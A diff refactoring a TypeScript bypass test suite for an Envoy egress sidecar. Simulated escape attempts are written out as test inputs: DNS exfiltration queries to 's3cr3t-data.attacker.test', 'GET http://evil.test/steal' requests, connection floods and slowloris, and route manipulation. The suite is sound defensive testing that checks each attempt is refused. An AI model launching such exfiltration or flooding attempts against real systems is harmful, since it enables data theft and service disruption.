@@ -18,19 +18,21 @@
  */
 import * as fs from 'node:fs';
 import * as path from 'node:path';
-import * as tls from 'node:tls';
 import { parsePolicyText, crossCheck } from '../../src/policy/parse';
 import { formatPolicyError } from '../../src/policy/errors';
-import { IP_BIN, routesOf, sealedWorldSupport } from '../support/netns';
+import { IP_BIN, routesOf } from '../support/netns';
 import { FORBIDDEN_ADDRESSES, SEALED, startSealedWorld, type SealedWorld } from '../support/netns-world';
 import {
   attempt,
   chooseDecisionsMode,
+  countedVariant,
   countVariant,
   decisionFor,
   decisionsModeWhy,
   describeEvidence,
+  describeIfSealed,
   evidenceSince,
+  failOnNewTrapHits,
   header,
   mark,
   noteClass,
@@ -38,14 +40,13 @@ import {
   registerClass,
   STAT,
   summary,
+  tlsExchange,
   type Evidence,
   type ExchangeOptions,
 } from './harness';
 
 const NODE = { tenant: 'acme', agent: 'coder', instance: 'sealed-1' };
-const UNAVAILABLE = sealedWorldSupport();
-if (UNAVAILABLE) console.log(`bypass suite skipped: ${UNAVAILABLE}`);
-const describeSealed = UNAVAILABLE ? describe.skip : describe;
+const describeSealed = describeIfSealed('bypass suite');
 
 // ---------------------------------------------------------------------------------------------
 // Which optional product features exist in this build (the suite grows with the product)
@@ -223,13 +224,7 @@ describeSealed('bypass suite (sealed namespaces, real Envoy)', () => {
     console.log(`sealed world up in ${((performance.now() - started) / 1000).toFixed(1)} s; decisions from ${mode} (${decisionsModeWhy})\n${world.describe()}`);
   }, 120_000);
 
-  afterEach(() => {
-    if (!world) return;
-    const hits = world.newTrapHits();
-    if (hits.length > 0) {
-      throw new Error(`FORBIDDEN SERVER REACHED (${hits.length}): ${hits.map((h) => `${h.trap} ${h.address} from ${h.remote}`).join(', ')}`);
-    }
-  });
+  afterEach(() => failOnNewTrapHits(world));
 
   afterAll(async () => {
     console.log(`${summary()}\nbypass suite time: ${((performance.now() - started) / 1000).toFixed(1)} s`);
@@ -327,15 +322,7 @@ describeSealed('bypass suite (sealed namespaces, real Envoy)', () => {
     it('lets allowed traffic through: TLS over CONNECT and plain HTTP', async () => {
       const ev = await attempt(world, connectReq('api.allowed.test:443'), { connect: true, keepTunnel: true });
       expect(ev.exchange.tunnel).toBeDefined();
-      const t = tls.connect({ socket: ev.exchange.tunnel!, servername: 'api.allowed.test', ca: world.ca.caPem });
-      const body = await new Promise<string>((resolve, reject) => {
-        let buf = '';
-        t.on('secureConnect', () => t.write('GET /hello HTTP/1.1\r\nHost: api.allowed.test\r\nConnection: close\r\n\r\n'));
-        t.on('data', (c: Buffer) => (buf += c.toString()));
-        t.on('end', () => resolve(buf));
-        t.on('error', reject);
-      });
-      t.destroy();
+      const body = await tlsExchange(world, ev.exchange.tunnel!, 'api.allowed.test', 'GET /hello HTTP/1.1\r\nHost: api.allowed.test\r\nConnection: close\r\n\r\n');
       expect(body).toMatch(/^HTTP\/1\.1 200/);
       expect(body).toContain('"upstream":"tls-upstream"');
       const plain = await attempt(world, getReq('http://plain.allowed.test/ping', 'plain.allowed.test'));
@@ -368,21 +355,16 @@ describeSealed('bypass suite (sealed namespaces, real Envoy)', () => {
       ['an unrelated public-looking address', '192.0.2.10', 443],
     ];
     it.each(targets)('#1 TCP to %s (%s:%d) fails', async (_what, host, port) => {
-      let refused = false;
-      try {
+      await countedVariant(1, async () => {
         const r = await world.agent.connectTcp(host, port, 1500);
         r.socket?.destroy();
         expect({ host, port, connected: !!r.socket }).toEqual({ host, port, connected: false });
         expect(r.error).toMatch(/^(ENETUNREACH|EHOSTUNREACH|ECONNREFUSED|ETIMEDOUT|EACCES|EADDRNOTAVAIL)$/);
-        refused = true;
-      } finally {
-        countVariant(1, refused);
-      }
+      });
     });
 
     it('#1 the agent cannot give itself a route, an address or a raw socket (no CAP_NET_ADMIN / CAP_NET_RAW)', async () => {
-      let refused = false;
-      try {
+      await countedVariant(1, async () => {
         for (const args of [
           ['route', 'add', 'default', 'via', SEALED.sidecar],
           ['route', 'add', '10.0.0.0/8', 'via', SEALED.sidecar],
@@ -394,21 +376,14 @@ describeSealed('bypass suite (sealed namespaces, real Envoy)', () => {
           expect(r.output).toMatch(/Operation not permitted|RTNETLINK answers/);
         }
         expect(routesOf(world.agentNs).some((l) => l.startsWith('default') || l.startsWith('10.0.0.0'))).toBe(false);
-        refused = true;
-      } finally {
-        countVariant(1, refused);
-      }
+      });
     });
 
     it("#1 the agent cannot open the sidecar's admin socket or the xDS relay socket", async () => {
-      let refused = false;
-      try {
+      await countedVariant(1, async () => {
         expect(await world.agent.unixConnect(world.sidecar.adminSocketPath)).toEqual({ connected: false, error: 'EACCES' });
         expect(await world.agent.unixConnect(world.xdsRelayPath)).toEqual({ connected: false, error: 'EACCES' });
-        refused = true;
-      } finally {
-        countVariant(1, refused);
-      }
+      });
     });
   });
 
@@ -558,21 +533,16 @@ describeSealed('bypass suite (sealed namespaces, real Envoy)', () => {
 
     it('#5 a name with one permitted and one guarded address uses only the permitted one (both orders)', async () => {
       for (const name of ['mixed.rebind.test', 'mixed-first.rebind.test', 'dual.rebind.test']) {
-        let ok = false;
-        try {
+        await countedVariant(5, async () => {
           const ev = await attempt(world, connectReq(`${name}:443`), { connect: true });
           expect({ name, status: ev.final?.status }).toEqual({ name, status: 200 });
           expect(ev.tlsUpstream.connections).toBe(1);
-          ok = true;
-        } finally {
-          countVariant(5, ok);
-        }
+        });
       }
     });
 
     it('#5 a name that rebinds after it was first resolved is never dialled at its new address', async () => {
-      let ok = false;
-      try {
+      await countedVariant(5, async () => {
         const name = 'public.rebind.test';
         world.dns.setRecord(name, [SEALED.tlsUpstream]);
         const first = await attempt(world, connectReq(`${name}:443`), { connect: true });
@@ -595,10 +565,7 @@ describeSealed('bypass suite (sealed namespaces, real Envoy)', () => {
           expect(plain.final?.status).not.toBe(200);
         }
         noteClass(5, 'time-of-check rebinding (public -> metadata after a refresh) included');
-        ok = true;
-      } finally {
-        countVariant(5, ok);
-      }
+      });
     }, 30_000);
   });
 
@@ -841,14 +808,10 @@ describeSealed('bypass suite (sealed namespaces, real Envoy)', () => {
   describe('#10 the sidecar and control plane themselves', () => {
     registerClass(10, "the sidecar's admin, the xDS port, the control plane's admin API");
     it('#10 Envoy listens on no TCP port but the egress listener', async () => {
-      let ok = false;
-      try {
+      await countedVariant(10, async () => {
         const listening = [...new Set(await world.envoyListeningSockets())];
         expect(listening).toEqual([`${SEALED.sidecar}:${SEALED.listenPort}`]);
-        ok = true;
-      } finally {
-        countVariant(10, ok);
-      }
+      });
     });
     it.each([
       ['CONNECT 127.0.0.1:XDS', 'connect', '127.0.0.1:XDS'],
@@ -959,30 +922,29 @@ describeSealed('bypass suite (sealed namespaces, real Envoy)', () => {
   registerClass(14, 'revoked destination while a tunnel is open');
   describe('#14 revocation of an open tunnel', () => {
     it('#14 a tunnel to a destination whose rule is removed is closed within 1 s (SPEC §6.2)', async () => {
-      let ok = false;
       const original = fs.readFileSync(path.join(world.policiesDir, 'acme.yaml'), 'utf8');
       try {
-        const ev = await attempt(world, connectReq('x.cdn.allowed.test:443'), { connect: true, keepTunnel: true });
-        expect(ev.exchange.tunnel).toBeDefined();
-        const tunnel = ev.exchange.tunnel!;
-        const closed = new Promise<number>((resolve) => tunnel.once('close', () => resolve(performance.now())));
-        tunnel.on('error', () => undefined);
-        tunnel.on('data', () => undefined);
-        const revoked = original.replace(/    - name: cdn\n      hosts: \["\*\.cdn\.allowed\.test"\]\n      ports: \[443\]\n/, '');
-        expect(revoked).not.toBe(original);
-        const t0 = performance.now();
-        await world.applyPolicies({ 'acme.yaml': revoked });
-        const tAck = performance.now();
-        const result = await Promise.race([closed, new Promise<null>((r) => setTimeout(() => r(null), 1500))]);
-        tunnel.destroy();
-        const after = await attempt(world, connectReq('x.cdn.allowed.test:443'), { connect: true });
-        expect(after.final?.status).toBe(403);
-        if (result === null) throw new Error(`the open tunnel survived the revocation (ACKed after ${(tAck - t0).toFixed(0)} ms, still open 1.5 s later); SPEC §6.2 requires it to close within 1 s`);
-        expect(result - t0).toBeLessThan(1000);
-        noteClass(14, `tunnel closed ${(result - t0).toFixed(0)} ms after the policy write`);
-        ok = true;
+        await countedVariant(14, async () => {
+          const ev = await attempt(world, connectReq('x.cdn.allowed.test:443'), { connect: true, keepTunnel: true });
+          expect(ev.exchange.tunnel).toBeDefined();
+          const tunnel = ev.exchange.tunnel!;
+          const closed = new Promise<number>((resolve) => tunnel.once('close', () => resolve(performance.now())));
+          tunnel.on('error', () => undefined);
+          tunnel.on('data', () => undefined);
+          const revoked = original.replace(/    - name: cdn\n      hosts: \["\*\.cdn\.allowed\.test"\]\n      ports: \[443\]\n/, '');
+          expect(revoked).not.toBe(original);
+          const t0 = performance.now();
+          await world.applyPolicies({ 'acme.yaml': revoked });
+          const tAck = performance.now();
+          const result = await Promise.race([closed, new Promise<null>((r) => setTimeout(() => r(null), 1500))]);
+          tunnel.destroy();
+          const after = await attempt(world, connectReq('x.cdn.allowed.test:443'), { connect: true });
+          expect(after.final?.status).toBe(403);
+          if (result === null) throw new Error(`the open tunnel survived the revocation (ACKed after ${(tAck - t0).toFixed(0)} ms, still open 1.5 s later); SPEC §6.2 requires it to close within 1 s`);
+          expect(result - t0).toBeLessThan(1000);
+          noteClass(14, `tunnel closed ${(result - t0).toFixed(0)} ms after the policy write`);
+        });
       } finally {
-        countVariant(14, ok);
         await world.applyPolicies({ 'acme.yaml': original });
       }
     }, 30_000);
@@ -1004,15 +966,11 @@ describeSealed('bypass suite (sealed namespaces, real Envoy)', () => {
           { name: 'rebinding while cut off', payload: connectReq('ten.rebind.test:443'), intended: 'ten.rebind.test:443', outcome: 'guard' as const },
         ]) {
           // Decisions cannot reach a control plane that is away: judge by Envoy's evidence only.
-          let ok = false;
-          try {
+          await countedVariant(15, async () => {
             const ev = await attempt(world, v.payload, { connect: v.payload.startsWith('CONNECT') });
             expect(ev.reachedSidecar).toBe(true);
             expect(refusal(ev)).not.toBeNull();
-            ok = true;
-          } finally {
-            countVariant(15, ok);
-          }
+          });
         }
         const allowed = await attempt(world, connectReq('api.allowed.test:443'), { connect: true });
         expect(allowed.final?.status).toBe(200);
@@ -1032,8 +990,7 @@ describeSealed('bypass suite (sealed namespaces, real Envoy)', () => {
     registerClass(16, "another agent's identity on the xDS stream");
     noteClass(16, 'certificate/node-id binding: test/xds/mtls-isolation.test.ts and test/e2e/egress-mtls.test.ts');
     it('#16 the agent cannot reach any xDS endpoint to present an identity at all', async () => {
-      let ok = false;
-      try {
+      await countedVariant(16, async () => {
         expect(await world.agent.unixConnect(world.xdsRelayPath)).toMatchObject({ connected: false });
         for (const host of ['127.0.0.1', SEALED.sidecar]) {
           const r = await world.agent.connectTcp(host, world.cp.xdsPort, 1000);
@@ -1042,10 +999,7 @@ describeSealed('bypass suite (sealed namespaces, real Envoy)', () => {
         }
         const ev = await attempt(world, connectReq(`xds.internal.test:${world.cp.xdsPort}`), { connect: true });
         expect(refusal(ev)).not.toBeNull();
-        ok = true;
-      } finally {
-        countVariant(16, ok);
-      }
+      });
     });
   });
 
@@ -1056,8 +1010,7 @@ describeSealed('bypass suite (sealed namespaces, real Envoy)', () => {
     registerClass(17, 'flood');
     const N = 300;
     it(`#17 ${N} concurrent CONNECTs to a denied host are all refused, quickly, and the sidecar stays up`, async () => {
-      let ok = false;
-      try {
+      await countedVariant(17, async () => {
         const before = await mark(world);
         const [denied, allowed] = await Promise.all([
           world.agent.flood(SEALED.sidecar, SEALED.listenPort, N, connectReq('evil.test:443'), 15_000),
@@ -1072,15 +1025,11 @@ describeSealed('bypass suite (sealed namespaces, real Envoy)', () => {
         expect(denied.ms).toBeLessThan(15_000);
         expect(ev.delta.get(STAT.cx)).toBeGreaterThanOrEqual(N + 100);
         expect(world.sidecar.envoy.exitStatus).toBeUndefined();
-        ok = true;
-      } finally {
-        countVariant(17, ok);
-      }
+      });
     }, 60_000);
 
     it('#17 200 slow clients (slowloris) do not starve a legitimate request', async () => {
-      let ok = false;
-      try {
+      await countedVariant(17, async () => {
         const held = await world.agent.slowStart(SEALED.sidecar, SEALED.listenPort, 200, 'CONNECT api.allowed.test:443 HTTP/1.1\r\nHost: api');
         expect(held.connected).toBe(200);
         const active = await world.sidecar.envoy.stats('^http\\.egress\\.downstream_cx_active$');
@@ -1098,40 +1047,29 @@ describeSealed('bypass suite (sealed namespaces, real Envoy)', () => {
         const released = await world.agent.slowStop(held.key);
         console.log(`slowloris: 200 held ~1 s with trickled headers; ${released.closedByPeer} closed by the sidecar meanwhile, ${released.open} still open when released (the HCM sets no request-headers timeout; connections are bounded by the overload manager's downstream limit)`);
         expect(world.sidecar.envoy.exitStatus).toBeUndefined();
-        ok = true;
-      } finally {
-        countVariant(17, ok);
-      }
+      });
     }, 60_000);
 
     it('#17 500 pipelined requests to a denied host on one connection: none forwarded', async () => {
-      let ok = false;
-      try {
+      await countedVariant(17, async () => {
         const one = 'GET http://evil.test/steal HTTP/1.1\r\nHost: evil.test\r\n\r\n';
         const ev = await attempt(world, one.repeat(500), { expect: 500, timeoutMs: 8000, idleMs: 300 });
         expect(ev.reachedSidecar).toBe(true);
         expect(ev.statuses.every((s) => s === 403)).toBe(true);
         expect(ev.upstreamConnections).toBe(0);
         console.log(`pipelining: ${ev.statuses.length} responses (all 403) for 500 pipelined denied requests, closed=${ev.exchange.closedByPeer}`);
-        ok = true;
-      } finally {
-        countVariant(17, ok);
-      }
+      });
     }, 30_000);
 
     it('#17 a request with 200 KB of headers is refused and the sidecar stays up', async () => {
-      let ok = false;
-      try {
+      await countedVariant(17, async () => {
         const big = Array.from({ length: 200 }, (_, i) => `X-Pad-${i}: ${'a'.repeat(1000)}\r\n`).join('');
         const ev = await attempt(world, getReq('http://evil.test/', 'evil.test', big));
         expect(ev.reachedSidecar).toBe(true);
         expect(refusal(ev)).not.toBeNull();
         const ok2 = await attempt(world, connectReq('api.allowed.test:443'), { connect: true });
         expect(ok2.final?.status).toBe(200);
-        ok = true;
-      } finally {
-        countVariant(17, ok);
-      }
+      });
     });
   });
 
@@ -1163,44 +1101,31 @@ describeSealed('bypass suite (sealed namespaces, real Envoy)', () => {
       ...(resolvConf && !resolvConf.includes(':') ? [["the host's resolv.conf nameserver", resolvConf] as [string, string]] : []),
     ];
     it.each(servers)('#18 a UDP query to %s (%s) gets no answer', async (_what, server) => {
-      let ok = false;
-      try {
+      await countedVariant(18, async () => {
         const before = world.dns.queries.length;
         const r = await world.agent.udpExchange(server, 53, query('s3cr3t-data.attacker.test'), 800);
         expect(r.reply).toBeUndefined();
         expect(r.error).toMatch(/^(ENETUNREACH|ECONNREFUSED|ETIMEDOUT|EHOSTUNREACH|EACCES)$/);
         expect(attackerQueries(before)).toEqual([]);
-        ok = true;
-      } finally {
-        countVariant(18, ok);
-      }
+      });
     });
     it('#18 the system resolver and c-ares in the agent namespace fail', async () => {
-      let ok = false;
-      try {
+      await countedVariant(18, async () => {
         const before = world.dns.queries.length;
         expect((await world.agent.lookup('s3cr3t-data.attacker.test')).addresses).toBeUndefined();
         expect((await world.agent.resolve('s3cr3t-data.attacker.test')).addresses).toBeUndefined();
         expect((await world.agent.resolve('s3cr3t-data.attacker.test', `${SEALED.dns}:53`)).addresses).toBeUndefined();
         expect(attackerQueries(before)).toEqual([]);
-        ok = true;
-      } finally {
-        countVariant(18, ok);
-      }
+      });
     });
     it('#18 DNS over TCP to the DNS server fails', async () => {
-      let ok = false;
-      try {
+      await countedVariant(18, async () => {
         const r = await world.agent.connectTcp(SEALED.dns, 53, 1000);
         expect(r.socket).toBeUndefined();
-        ok = true;
-      } finally {
-        countVariant(18, ok);
-      }
+      });
     });
     it('#18 the sidecar never resolves a name the agent is not allowed to reach', async () => {
-      let ok = false;
-      try {
+      await countedVariant(18, async () => {
         const before = world.dns.queries.length;
         for (const p of [connectReq('s3cr3t-data.attacker.test:443'), getReq('http://s3cr3t-data2.attacker.test/', 's3cr3t-data2.attacker.test'), getReq('/', 's3cr3t-data3.attacker.test'), connectReq(`${SEALED.dns}:53`)]) {
           const ev = await attempt(world, p, { connect: p.startsWith('CONNECT') });
@@ -1209,10 +1134,7 @@ describeSealed('bypass suite (sealed namespaces, real Envoy)', () => {
         }
         expect(attackerQueries(before)).toEqual([]);
         noteClass(18, 'names under an allowed wildcard (*.cdn.allowed.test) are resolved by design: a wildcard allows its whole subtree');
-        ok = true;
-      } finally {
-        countVariant(18, ok);
-      }
+      });
     });
   });
 
